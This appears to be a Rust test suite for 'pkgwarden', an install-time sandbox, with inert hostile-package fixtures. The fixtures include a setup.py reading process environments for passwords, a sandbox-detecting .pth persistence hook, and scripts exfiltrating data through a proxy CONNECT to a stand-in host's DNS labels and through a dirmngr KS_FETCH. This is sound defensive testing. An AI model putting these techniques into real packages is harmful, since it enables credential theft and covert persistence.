/// (`BUNDLE_<HOST>=user:password`, no URL), Composer's `COMPOSER_AUTH`
/// (JSON), Terraform's per-host `TF_TOKEN_<host>`, the Bitwarden and
/// 1Password CLIs' session keys (`BW_SESSION`, `OP_SESSION_<account>`: the
/// unlocked vault), ngrok's `NGROK_AUTHTOKEN`, Kaggle's `KAGGLE_KEY`,
/// sops' `SOPS_AGE_KEY` (an age private key), a `DEPLOY_KEY`, and the
/// `Authorization` header CI hands git by `GIT_CONFIG_VALUE_0`.
const UNLISTED_VARS: &[(&str, &str)] = &[
    (
        "COMPOSER_AUTH",
        "{\"http-basic\":{\"repo.internal.test\":{\"username\":\"eyes13\",\"password\":\"EYES13-ENV\"}}}",
    ),
    ("TF_TOKEN_app_terraform_test", "EYES13-ENV"),
    ("BW_SESSION", "EYES13-ENV"),
    ("OP_SESSION_eyes13", "EYES13-ENV"),
    ("NGROK_AUTHTOKEN", "EYES13-ENV"),
    ("KAGGLE_KEY", "EYES13-ENV"),
    ("SOPS_AGE_KEY", "AGE-SECRET-KEY-EYES13-ENV"),
    ("DEPLOY_KEY", "EYES13-ENV"),
    ("GIT_CONFIG_VALUE_0", "AUTHORIZATION: basic EYES13-ENV"),
];

/// The managers' own credential settings among round 13's variables: npm
/// reads `npm_config__authToken` and `NPM_CONFIG__AUTH`, yarn 2+
/// `YARN_NPM_AUTH_IDENT`, Bundler `BUNDLE_<HOST>`; they are kept for the
/// manager (reported `cred.env`, as a private index URL is), and reach
/// its package code too.
const MANAGER_VARS: &[(&str, &str)] = &[
    ("npm_config__authToken", "EYES13-ENV"),
    ("NPM_CONFIG__AUTH", "ZXllczEzOkVZRVMxMy1FTlY= EYES13-ENV"),
    ("YARN_NPM_AUTH_IDENT", "eyes13:EYES13-ENV"),
    ("BUNDLE_GEMS__INTERNAL__TEST", "eyes13:EYES13-ENV"),
];

/// The manager's own credential variables must reach the manager but not
/// its package code: that needs the nested domain (the hook wrapper, the
/// preload library) to drop them before a lifecycle script starts.
///
/// Fixed: the hook wrapper starts a script's shell without them (and
/// without any other secret the manager passes on); Bundler's per-host
/// settings are secret.
#[test]
fn the_managers_own_credential_variables_do_not_reach_package_code() {
    let failed = absent_from_package_code(MANAGER_VARS);
    assert!(failed.is_empty(), "{failed:#?}");
}

/// A `setup.py` that looks for the index password in its environment, in
/// `/proc/self/environ` (what a process unset stays there) and in pip's.
const PIP_ENV_SETUP: &str = r#"import os, sys
want = "EYES13-PIPENV"
env = any(want in v for v in os.environ.values())
def raw(path):
    try:
        with open(path, "rb") as f:
            return want.encode() in f.read()
    except OSError as e:
        return "errno %d" % e.errno
print("EYES13-PIPENV env=%r self=%r parent=%r" % (env, raw("/proc/self/environ"), raw("/proc/%d/environ" % os.getppid())), file=sys.stderr)
from setuptools import setup
setup(name="pwtok", version="1.0.0", packages=["pwtok"])
"#;

/// pip's own credential variable (`PIP_INDEX_URL` with a password, kept
/// for pip) reaches pip, which installs from that index, but not the build
/// backend running the sdist's `setup.py` (the preload library starts it
/// again without it), in its environment or in `/proc/self/environ`.
#[test]
fn pips_index_password_in_its_variable_does_not_reach_the_build_backend() {
    use support::pypi::sdist_index;
    let index = sdist_index("pwtok", PIP_ENV_SETUP);
    let venv_home = support::TestHome::new();
    let venv = support::venv(&venv_home);
    let env = ShimEnv::new(&[&venv.join("bin")]);
    let url = index
        .index_url()
        .replace("http://", "http://eyes13:EYES13-PIPENV@");
    for mode in ["protect", "block"] {
        let args = [
            "pip",
            "install",
            "-v",
            "--use-pep517",
            "--no-cache-dir",
            "pwtok",
        ];
        let r = support::installs::install(
            &env,
            mode,
            &args,
            env.home.path(),
            &[("PIP_INDEX_URL", url.clone())],
        );
        let line = r
            .stderr
            .lines()
            .chain(r.stdout.lines())
            .find(|l| l.contains("EYES13-PIPENV env="))
            .unwrap_or_else(|| panic!("{mode}: setup.py did not run: {}\n{}", r.stdout, r.stderr))
            .to_string();
        assert!(
            line.contains("env=False")
                && line.contains("self=False")
                && !line.contains("parent=True"),
            "{mode}: {line}"
        );
        // Block fails the install on the attempt at pip's environment.
        if mode == "protect" {
            assert_eq!(r.code, 0, "{mode}: the install failed: {}", r.stderr);
        }
        let _ = std::process::Command::new(venv.join("bin/pip"))
            .args(["uninstall", "-y", "pwtok"])
            .output();
    }
}

/// Class 7 (secrets nobody listed), the environment's half. Each variable
/// of [`UNLISTED_VARS`] is set for pkgwarden; a dependency's postinstall
/// (npm's nested hook domain) finds every one in its own environment, in
/// protect and in block, with no `cred.env` finding (the names match no
/// pattern and the values are no URL with credentials).
///
/// Fixed: `_AUTH`, `_AUTHTOKEN`, `_AUTH_IDENT`, `_SESSION`, `_KEY` name
/// endings, `TF_TOKEN_` and `OP_SESSION_` beginnings, and an
/// `Authorization:` header as a value are secret.
#[test]
fn secret_variables_of_other_shapes_are_removed() {
    let failed = absent_from_package_code(UNLISTED_VARS);
    assert!(failed.is_empty(), "{failed:#?}");
}

/// Which of `vars`, set for pkgwarden, a dependency's postinstall finds in
/// its environment, per mode (empty: none, in protect and block).
fn absent_from_package_code(vars: &[(&str, &str)]) -> Vec<String> {
    use support::probes::{deps, probe};
    let names: Vec<&str> = vars.iter().map(|(k, _)| *k).collect();
    let body = format!(
        r#"
for (const k of {names:?}) {{
  t(k, () => {{ if (!(process.env[k] || "").includes("EYES13-ENV")) throw new Error("absent"); }});
}}
"#
    );
    let registry = NpmRegistry::start_with(vec![probe("pw-env", &body)]);
    let vars: Vec<(&str, String)> = vars.iter().map(|(k, v)| (*k, v.to_string())).collect();
    let mut failed = Vec::new();
    for mode in ["protect", "block"] {
        let env = ShimEnv::new(&[]);
        let project = env.home.subdir("proj");
        let (r, result) = npm_install_with(
            &env,
            &registry,
            mode,
            &project,
            &deps(&["pw-env"]),
            "pw-env",
            &vars,
        );
        assert!(
            !result.is_null(),
            "{mode}: pw-env did not run\n{}",
            r.stderr
        );
        let seen: Vec<&str> = names
            .iter()
            .copied()
            .filter(|k| result[*k] == "ok")
            .collect();
        eprintln!("{mode}: findings {:#}", r.report["findings"]);
        if !seen.is_empty() {
            failed.push(format!(
                "{mode}: in a dependency script's environment ({} of {}): {seen:?}",
                seen.len(),
                names.len()
            ));
        }
    }
    failed
}

/// The finder module behind a `.pth` of setuptools' editable shape: it
/// does nothing where it sees a seccomp filter or `no_new_privs` (the
/// start-up detonation runs inside the sandbox), and otherwise writes a
/// marker into `~/.config/pwdormant/` (the user's next Python start).
const DORMANT_FINDER: &str = r#"import os

def _sandboxed():
    try:
        with open("/proc/self/status") as f:
            s = f.read()
    except OSError:
        return True
    return "Seccomp:\t0" not in s or "NoNewPrivs:\t1" in s

def install():
    if _sandboxed():
        return
    d = os.path.join(os.path.expanduser("~"), ".config", "pwdormant")
    try:
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, "marker"), "w") as f:
            f.write("pkgwarden fixture")
    except OSError:
        pass
"#;

/// Class 4 (code at the next interpreter start). A wheel ships
/// `__editable__.pwdormant-1.0.0.pth` with exactly setuptools' line
/// (`import __editable___<x>_finder; __editable___<x>_finder.install()`):
/// the benign list (`policy/benign.toml`) knows that shape and, for it,
/// names no owner, so any distribution may ship it, and leaves the judging
/// of the finder to the start-up detonation. The finder stays quiet where
/// `/proc/self/status` shows a seccomp filter. Block: exit 0, no finding,
/// nothing quarantined; the user's next `python -c pass` runs it.
#[test]
fn an_editable_shaped_pth_from_a_wheel_is_judged_by_more_than_its_shape() {
    use support::pypi::{PipFixture, build_wheel};
    let dir = tempfile::tempdir().unwrap();
    let finder = "__editable___pwdormant_1_0_0_finder";
    for (rel, data) in [
        (
            "__editable__.pwdormant-1.0.0.pth".to_string(),
            format!("import {finder}; {finder}.install()\n"),
        ),
        (format!("{finder}.py"), DORMANT_FINDER.to_string()),
        ("pwdormant/__init__.py".to_string(), String::new()),
    ] {
        let p = dir.path().join(rel);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(p, data).unwrap();
    }
    let index = PypiIndex::start_with(vec![build_wheel(&PipFixture {
        name: "pwdormant".into(),
        version: "1.0.0".into(),
        summary: Some("Inert pkgwarden fixture".into()),
        requires_dist: vec![],
        dir: dir.path().to_path_buf(),
    })]);
    let venv_home = TestHome::new();
    let venv = venv(&venv_home);
    let env = ShimEnv::new(&[&venv.join("bin")]);
    let url = index.index_url();
    let r = support::installs::install(
        &env,
        "block",
        &["pip", "install", "--index-url", &url, "pwdormant"],
        env.home.path(),
        &[],
    );
    let marker = env.home.path().join(".config/pwdormant/marker");
    assert!(!marker.exists(), "the finder acted during the install");
    let serious: Vec<String> = r.serious().iter().map(|f| f.to_string()).collect();
    eprintln!(
        "exit {}; detonation_ms {}; findings {:#}",
        r.code, r.report["timings"]["detonation_ms"], r.report["findings"]
    );
    // The user's next Python start, outside pkgwarden.
    let py = run(env.bare(venv_bin(&venv, "python")).args(["-c", "pass"]));
    assert_success(&py, "python after the install");
    assert!(
        !serious.is_empty() || !marker.exists(),
        "block let it in (exit {}, no finding of medium or more) and the next python start ran it\n{:#}",
        r.code,
        r.report["findings"]
    );
}

/// Variation (fix13's, not what the fix was written against): the wheel
/// also ships its own `direct_url.json` claiming an editable install of the
/// very project the user installs editable in the same command (a CI path
/// is guessable), and pip keeps a wheel's `direct_url.json`. That project
/// (`setup.py` only) is named `pwlocal`; the wheel is `pwforged`: block
/// refuses it, and the next Python start runs nothing.
#[test]
fn an_editable_shaped_pth_with_a_forged_editable_claim_is_refused() {
    use support::pypi::{PipFixture, build_requirements, build_wheel};
    let venv_home = TestHome::new();
    let venv = venv(&venv_home);
    let env = ShimEnv::new(&[&venv.join("bin")]);
    let proj = env.home.subdir("proj");
    fs::write(
        proj.join("setup.py"),
        "from setuptools import setup\nsetup(name='pwlocal', version='1.0.0', packages=['pwlocal'])\n",
    )
    .unwrap();
    fs::create_dir_all(proj.join("pwlocal")).unwrap();
    fs::write(proj.join("pwlocal/__init__.py"), "").unwrap();
    let dir = tempfile::tempdir().unwrap();
    let finder = "__editable___pwforged_1_0_0_finder";
    let claim = format!(
        r#"{{"url": "file://{}", "dir_info": {{"editable": true}}}}"#,
        proj.canonicalize().unwrap().display()
    );
    for (rel, data) in [
        (
            "__editable__.pwforged-1.0.0.pth".to_string(),
            format!("import {finder}; {finder}.install()\n"),
        ),
        (
            format!("{finder}.py"),
            DORMANT_FINDER.replace("pwdormant", "pwforged"),
        ),
        ("pwforged/__init__.py".to_string(), String::new()),
        (
            "pwforged-1.0.0.dist-info/direct_url.json".to_string(),
            claim,
        ),
    ] {
        let p = dir.path().join(rel);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(p, data).unwrap();
    }
    let mut dists = build_requirements();
    dists.push(build_wheel(&PipFixture {
        name: "pwforged".into(),
        version: "1.0.0".into(),
        summary: Some("Inert pkgwarden fixture".into()),
        requires_dist: vec![],
        dir: dir.path().to_path_buf(),
    }));
    let index = PypiIndex::start_with(dists);
    let url = index.index_url();
    let r = support::installs::install(
        &env,
        "block",
        &[
            "pip",
            "install",
            "--use-pep517",
            "--no-cache-dir",
            "--index-url",
            &url,
            "-e",
            ".",
            "pwforged",
        ],
        &proj,
        &[],
    );
    let marker = env.home.path().join(".config/pwforged/marker");
    let py = run(env.bare(venv_bin(&venv, "python")).args(["-c", "pass"]));
    assert_success(&py, "python after the install");
    let pth = r
        .findings("persist.python-startup")
        .iter()
        .any(|f| f.to_string().contains("__editable__.pwforged"));
    assert!(
        pth && r.code == 90 && !marker.exists(),
        "exit {}, marker {}\n{}\n{:#}",
        r.code,
        marker.exists(),
        r.stderr,
        r.report["findings"]
    );
}

/// Container engines' sockets round 12's fix does not find: a docker
/// context in the configuration directory `$DOCKER_CONFIG` names (the
/// fix reads `~/.docker/contexts/meta` only), podman's remote socket from
/// `$CONTAINER_HOST`, Colima's instance under `~/.config/colima` (its
/// place when `$XDG_CONFIG_HOME/colima` exists), podman machine's API
/// socket beside rootless podman's (`$XDG_RUNTIME_DIR/podman/`), and podman
/// machine's forwarded socket under `~/.local/share/containers`.
const OTHER_ENGINES: &[(&str, &str)] = &[
    ("docker_config_context", "ctx/docker.sock"),
    ("container_host", "run/podman-remote.sock"),
    ("colima_xdg", ".config/colima/default/docker.sock"),
    (
        "podman_machine_api",
        "run/podman/podman-machine-default-api.sock",
    ),
    (
        "podman_machine_qemu",
        ".local/share/containers/podman/machine/qemu/podman.sock",
    ),
];

/// Class: servers that run what a client asks (round 12, bypass 3,
/// fixed by naming more places). Each engine of [`OTHER_ENGINES`] runs a
/// container that bind-mounts HOME for any client; a dependency's script
/// sends each `GET /_ping` in protect, with no finding.
#[test]
fn a_dependency_script_reaches_no_container_engine_found_another_way() {
    use std::io::Read;
    use support::probes::{deps, probe};
    let env = ShimEnv::new(&[]);
    let home = env.home.path().to_path_buf();
    let socks: serde_json::Map<String, Value> = OTHER_ENGINES
        .iter()
        .map(|(k, rel)| {
            (
                k.to_string(),
                Value::from(home.join(rel).display().to_string()),
            )
        })
        .collect();
    let body = format!(
        r#"
const cp = require("child_process");
const socks = {};
const js = `const net = require("net"); const socks = ${{JSON.stringify(socks)}}; const out = {{}};
let left = Object.keys(socks).length;
const done = () => {{ if (--left === 0) process.stdout.write(JSON.stringify(out)); }};
for (const [k, p] of Object.entries(socks)) {{
  const s = net.connect(p, () => {{ s.write("GET /_ping HTTP/1.0\\r\\n\\r\\n"); out[k] = "ok"; s.end(); done(); }});
  s.on("error", e => {{ out[k] = e.code; done(); }});
}}`;
const got = JSON.parse(cp.execFileSync(process.execPath, ["-e", js], {{timeout: 10000}}).toString());
for (const [k, v] of Object.entries(got)) r[k] = v;
"#,
        Value::Object(socks)
    );
    let registry = NpmRegistry::start_with(vec![probe("pw-engine", &body)]);
    // The docker client's context, in the directory `$DOCKER_CONFIG` names.
    let meta = home.join(".config/docker/contexts/meta/0123abcd");
    fs::create_dir_all(&meta).unwrap();
    fs::write(
        meta.join("meta.json"),
        serde_json::json!({"Name": "eyes13", "Endpoints": {"docker": {
            "Host": format!("unix://{}", home.join("ctx/docker.sock").display())}}})
        .to_string(),
    )
    .unwrap();
    fs::write(
        home.join(".config/docker/config.json"),
        "{\"currentContext\": \"eyes13\"}",
    )
    .unwrap();
    let pinged = std::sync::Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    for (name, rel) in OTHER_ENGINES {
        let sock = home.join(rel);
        fs::create_dir_all(sock.parent().unwrap()).unwrap();
        let listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
        let pinged = pinged.clone();
        let name = name.to_string();
        // Never joined: it waits for a client that may not come.
        std::thread::spawn(move || {
            if let Ok((mut c, _)) = listener.accept() {
                let mut buf = [0u8; 64];
                let n = c.read(&mut buf).unwrap_or(0);
                if String::from_utf8_lossy(&buf[..n]).contains("_ping") {
                    pinged.lock().unwrap().push(name);
                }
            }
        });
    }
    let run = home.join("run");
    let vars = [
        ("XDG_RUNTIME_DIR", run.display().to_string()),
        (
            "DOCKER_CONFIG",
            home.join(".config/docker").display().to_string(),
        ),
        (
            "CONTAINER_HOST",
            format!("unix://{}", run.join("podman-remote.sock").display()),
        ),
    ];
    let project = env.home.subdir("proj");
    let (r, result) = npm_install_with(
        &env,
        &registry,
        "protect",
        &project,
        &deps(&["pw-engine"]),
        "pw-engine",
        &vars,
    );
    assert!(!result.is_null(), "pw-engine did not run\n{}", r.stderr);
    std::thread::sleep(std::time::Duration::from_millis(200));
    let serious = r.serious();
    let unseen: Vec<String> = pinged
        .lock()
        .unwrap()
        .iter()
        .filter(|name| {
            let rel = OTHER_ENGINES.iter().find(|(n, _)| n == name).unwrap().1;
            let p = home.join(rel).display().to_string();
            !serious.iter().any(|f| f.to_string().contains(&p))
        })
        .cloned()
        .collect();
    assert!(
        unseen.is_empty(),
        "pinged with no finding of medium or more: {unseen:?}\n{result:#}\n{:#}",
        r.report["findings"]
    );
}

/// The dependency's script: asks pkgwarden's proxy (the one
/// `HTTPS_PROXY`/`HTTP_PROXY` name inside the sandbox) to `CONNECT` to a
/// host whose first label carries data, and records the answer's status
/// line. No policy allows that host. It authenticates with the proxy's
/// credentials from the variable, as npm does.
const PROXY_LOOKUP_PROBE: &str = r#"
const cp = require("child_process");
const proxy = new URL(process.env.HTTPS_PROXY || process.env.https_proxy || process.env.HTTP_PROXY || process.env.http_proxy);
const auth = Buffer.from(decodeURIComponent(proxy.username) + ":" + decodeURIComponent(proxy.password)).toString("base64");
const js = `const s = require("net").connect(${JSON.stringify(Number(proxy.port))}, ${JSON.stringify(proxy.hostname)}, () =>
  s.write("CONNECT eyes13-secret-6c65616b.exfil.test:443 HTTP/1.1\\r\\nHost: eyes13-secret-6c65616b.exfil.test:443\\r\\nProxy-Authorization: Basic ${auth}\\r\\n\\r\\n"));
s.on("data", d => { process.stdout.write(String(d).split("\\r\\n")[0]); s.destroy(); });
s.on("error", e => process.stdout.write("ERR " + e.code));`;
r.answer = cp.execFileSync(process.execPath, ["-e", js], {timeout: 15000}).toString();
"#;

/// Class 1 (DNS exfiltration; "the install needs no DNS: the proxy
/// resolves"). The proxy's `decide` resolves every asked name
/// (`to_socket_addrs`) before it looks at the policy, so a `CONNECT` to a
/// host no policy allows makes pkgwarden, outside the sandbox, send the
/// name to the user's DNS resolver: the data in its labels reaches the
/// domain's name server although the request is refused. Root only: the
/// test runs pkgwarden in a mount namespace of its own where
/// `/etc/resolv.conf` names a UDP listener the test binds on loopback, and
/// reads what that listener hears. Block mode.
#[test]
fn the_proxy_resolves_no_name_the_policy_refuses() {
    use support::probes::{deps, probe};
    if !nix::unistd::geteuid().is_root() {
        eprintln!("skipped: needs root (a mount namespace and port 53)");
        return;
    }
    let dns = std::net::UdpSocket::bind("127.0.0.113:53").expect("port 53 on 127.0.0.113");
    dns.set_read_timeout(Some(std::time::Duration::from_millis(200)))
        .unwrap();
    let heard = std::sync::Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let listener = {
        let (heard, stop) = (heard.clone(), stop.clone());
        std::thread::spawn(move || {
            let mut buf = [0u8; 512];
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                if let Ok((n, _)) = dns.recv_from(&mut buf) {
                    // Question names, as text (labels keep their bytes).
                    heard
                        .lock()
                        .unwrap()
                        .push(String::from_utf8_lossy(&buf[..n]).into_owned());
                }
            }
        })
    };
    let registry = NpmRegistry::start_with(vec![probe("pw-dns", PROXY_LOOKUP_PROBE)]);
    let env = ShimEnv::new(&[]);
    let rc = env.home.path().join("resolv.conf");
    fs::write(
        &rc,
        "nameserver 127.0.0.113\noptions timeout:1 attempts:1\n",
    )
    .unwrap();
    let project = env.home.subdir("proj");
    fs::write(project.join("package.json"), deps(&["pw-dns"]).to_string()).unwrap();
    let before = env.report_files();
    let url = registry.registry_url();
    let out = run(env
        .bare("unshare")
        .args([
            "-m",
            "sh",
            "-c",
            "mount --bind \"$0\" /etc/resolv.conf && exec \"$@\"",
        ])
        .arg(&rc)
        .arg(pkgwarden_bin())
        .args(["run", "--sandbox", "--mode", "block", "--"])
        .args(["npm", "install", "--registry", &url])
        .current_dir(&project));
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    listener.join().unwrap();
    let new = env.reports_since(&before);
    assert_eq!(new.len(), 1, "{}", stderr_str(&out));
    let report: Value = serde_json::from_slice(&fs::read(&new[0]).unwrap()).unwrap();
    let result = fs::read(project.join("node_modules/pw-dns/result.json"))
        .map(|b| serde_json::from_slice::<Value>(&b).unwrap())
        .unwrap_or(Value::Null);
    assert!(
        !result.is_null(),
        "pw-dns did not run\n{}",
        stderr_str(&out)
    );
    let leaked: Vec<String> = heard
        .lock()
        .unwrap()
        .iter()
        .filter(|q| q.contains("eyes13-secret-6c65616b"))
        .cloned()
        .collect();
    eprintln!(
        "answer {}; findings {:#}",
        result["answer"], report["findings"]
    );
    assert!(
        leaked.is_empty(),
        "the resolver was asked for the refused name {} time(s) (answer to the CONNECT: {})",
        leaked.len(),
        result["answer"]
    );
}

/// GnuPG's other sockets (gpg-agent's own is listed): dirmngr's, which
/// fetches any URL a client names (`KS_FETCH`, `WKD_GET`) from outside the
/// sandbox, gpg-agent's restricted `extra` socket (it still signs), and
/// keyboxd's (the public keyring). In `~/.gnupg` (no `/run/user/<uid>`)
/// and in `$XDG_RUNTIME_DIR/gnupg`.
const GNUPG_SOCKETS: &[(&str, &str)] = &[
    ("dirmngr_home", ".gnupg/S.dirmngr"),
    ("extra_home", ".gnupg/S.gpg-agent.extra"),
    ("keyboxd_home", ".gnupg/S.keyboxd"),
    ("dirmngr_run", "run/gnupg/S.dirmngr"),
    ("extra_run", "run/gnupg/S.gpg-agent.extra"),
];

/// Class 1 (a way out that skips the proxy). `privileged_sockets` lists
/// gpg-agent's main and ssh sockets only. A dependency's script asks
/// dirmngr to fetch a URL carrying data (`KS_FETCH http://…/<data>`) and
/// writes to the others, in protect: every socket of
/// [`GNUPG_SOCKETS`] is reached, with no finding (`~/.gnupg` is hidden from
/// reads, but a connect is no read).
#[test]
fn a_dependency_script_reaches_no_gnupg_socket() {
    use std::io::Read;
    use support::probes::{deps, probe};
    let env = ShimEnv::new(&[]);
    let home = env.home.path().to_path_buf();
    let socks: serde_json::Map<String, Value> = GNUPG_SOCKETS
        .iter()
        .map(|(k, rel)| {
            (
                k.to_string(),
                Value::from(home.join(rel).display().to_string()),
            )
        })
        .collect();
    let body = format!(
        r#"
const cp = require("child_process");
const socks = {};
const js = `const net = require("net"); const socks = ${{JSON.stringify(socks)}}; const out = {{}};
let left = Object.keys(socks).length;
const done = () => {{ if (--left === 0) process.stdout.write(JSON.stringify(out)); }};
for (const [k, p] of Object.entries(socks)) {{
  const s = net.connect(p, () => {{ s.write("KS_FETCH http://exfil.eyes13.test/EYES13-DATA\\n"); out[k] = "ok"; s.end(); done(); }});
  s.on("error", e => {{ out[k] = e.code; done(); }});
}}`;
const got = JSON.parse(cp.execFileSync(process.execPath, ["-e", js], {{timeout: 10000}}).toString());
for (const [k, v] of Object.entries(got)) r[k] = v;
"#,
        Value::Object(socks)
    );
    let registry = NpmRegistry::start_with(vec![probe("pw-gpg", &body)]);
    let asked = std::sync::Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    for (name, rel) in GNUPG_SOCKETS {
        let sock = home.join(rel);
        fs::create_dir_all(sock.parent().unwrap()).unwrap();
        let listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
        let asked = asked.clone();
        let name = name.to_string();
        // Never joined: it waits for a client that may not come.
        std::thread::spawn(move || {
            if let Ok((mut c, _)) = listener.accept() {
                let mut buf = [0u8; 128];
                let n = c.read(&mut buf).unwrap_or(0);
                if String::from_utf8_lossy(&buf[..n]).contains("EYES13-DATA") {
                    asked.lock().unwrap().push(name);
                }
            }
        });
    }
    let vars = [("XDG_RUNTIME_DIR", home.join("run").display().to_string())];
    let project = env.home.subdir("proj");
    let (r, result) = npm_install_with(
        &env,
        &registry,
        "protect",
        &project,
        &deps(&["pw-gpg"]),
        "pw-gpg",
        &vars,
    );
    assert!(!result.is_null(), "pw-gpg did not run\n{}", r.stderr);
    std::thread::sleep(std::time::Duration::from_millis(200));
    let serious = r.serious();
    let unseen: Vec<String> = asked
        .lock()
        .unwrap()
        .iter()
        .filter(|name| {
            let rel = GNUPG_SOCKETS.iter().find(|(n, _)| n == name).unwrap().1;
            let p = home.join(rel).display().to_string();
            !serious.iter().any(|f| f.to_string().contains(&p))
        })
        .cloned()
        .collect();
    assert!(
        unseen.is_empty(),
        "asked with no finding of medium or more: {unseen:?}\n{result:#}\n{:#}",
        r.report["findings"]
    );
}
